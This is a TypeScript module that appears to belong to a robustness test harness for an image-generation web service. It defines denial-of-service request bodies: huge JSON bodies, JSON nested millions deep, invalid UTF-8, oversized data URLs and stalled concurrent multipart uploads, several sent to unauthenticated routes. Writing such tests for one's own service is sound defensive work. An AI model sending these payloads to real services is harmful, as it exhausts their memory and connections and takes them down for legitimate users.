import { counted, type Attack } from './attack';
import { JSON_TYPE, repeated, sendRaw, wrapped } from './raw';

const MEGABYTE = 1_000_000;
const GENERATIONS = '/v1/images/generations';

/** A JSON object whose one unknown field is a list of empty objects: small to send, large to hold. */
const objects = (megabytes: number) =>
  wrapped('{"prompt":"a cloud","zz":[{}', ',{}', megabytes * MEGABYTE, ']}');

function* unfinishedUpload(megabytes: number): Generator<Buffer> {
  const head = 'Content-Disposition: form-data; name="files"; filename="a.png"\r\n\r\n';
  yield Buffer.from(`--b\r\n${head}`);
  yield* repeated('\0', megabytes * MEGABYTE);
}

const MULTIPART = { 'content-type': 'multipart/form-data; boundary=b' };
const UPLOADS = 12;
const UPLOAD_MS = 40_000;

export const bodyAttacks: readonly Attack[] = [
  ...([40, 220].map((megabytes) => ({
    name: `${megabytes} MB of JSON to /api/auth/signout, no login`,
    run: (target) =>
      sendRaw(target, {
        path: '/api/auth/signout',
        headers: JSON_TYPE,
        body: objects(megabytes),
      }),
  })) satisfies Attack[]),
  {
    name: '40 MB form to a page, no login',
    run: (target) =>
      sendRaw(target, {
        path: '/signup',
        headers: { 'content-type': 'application/x-www-form-urlencoded', 'next-action': 'x' },
        body: repeated('a=b&', 40 * MEGABYTE),
      }),
  },
  ...([10, 60].map((megabytes) => ({
    name: `${megabytes} MB of empty objects to generations`,
    run: (target) =>
      sendRaw(target, {
        path: GENERATIONS,
        token: target.token,
        headers: JSON_TYPE,
        body: objects(megabytes),
      }),
  })) satisfies Attack[]),
  {
    name: '60 MB of empty objects to styles (takes pictures)',
    run: (target) =>
      sendRaw(target, {
        path: '/v1/styles',
        token: target.token,
        headers: JSON_TYPE,
        body: objects(60),
      }),
  },
  {
    name: 'JSON nested 5 million deep',
    run: (target) =>
      sendRaw(target, {
        path: '/v1/styles',
        token: target.token,
        headers: JSON_TYPE,
        body: wrapped('{"zz":', '[', 5 * MEGABYTE, ''),
      }),
  },
  {
    name: '80 MB data URL in JSON to styles',
    run: (target) =>
      sendRaw(target, {
        path: '/v1/styles',
        token: target.token,
        headers: JSON_TYPE,
        body: wrapped('{"image_urls":["data:image/png;base64,', 'AAAA', 80 * MEGABYTE, '"]}'),
      }),
  },
  {
    name: '80 MB of broken UTF-8 to styles',
    run: (target) =>
      sendRaw(target, {
        path: '/v1/styles',
        token: target.token,
        headers: JSON_TYPE,
        body: [Buffer.from('{"zz":"'), ...Array<Buffer>(80).fill(Buffer.alloc(MEGABYTE, 0xff))],
      }),
  },
  {
    name: `${UPLOADS} unfinished uploads of 85 MB`,
    run: async (target) =>
      counted(
        await Promise.all(
          Array.from({ length: UPLOADS }, () =>
            sendRaw(target, {
              path: '/v1/styles',
              token: target.token,
              headers: MULTIPART,
              body: unfinishedUpload(85),
              unfinishedMs: UPLOAD_MS,
            }),
          ),
        ),
      ),
  },
];
